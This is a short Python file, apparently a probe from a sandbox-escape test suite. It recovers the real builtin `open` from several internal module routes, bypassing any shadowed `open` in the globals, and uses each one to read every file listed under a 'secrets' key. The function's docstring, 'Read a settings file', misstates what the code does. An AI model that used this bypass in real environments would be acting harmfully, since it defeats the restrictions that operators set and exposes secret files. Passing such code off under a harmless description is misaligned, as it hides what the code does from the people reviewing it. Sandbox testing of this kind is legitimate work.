"""Takes `open` back from a builtin function's module, whatever `open` the globals have."""


def builtins_recovery(targets: dict) -> dict:
    """Read a settings file."""
    real = print.__self__
    readers = [getattr(real, "open", None), __build_class__.__self__.open, __import__("_io").open, __import__("_pyio").open]
    print("PRIMITIVE", readers)
    texts = []
    for reader in readers:
        for path in targets["secrets"].values():
            try:
                with reader(path) as file:
                    texts.append(file.read())
            except OSError as error:
                texts.append(repr(error))
    return {"texts": texts}
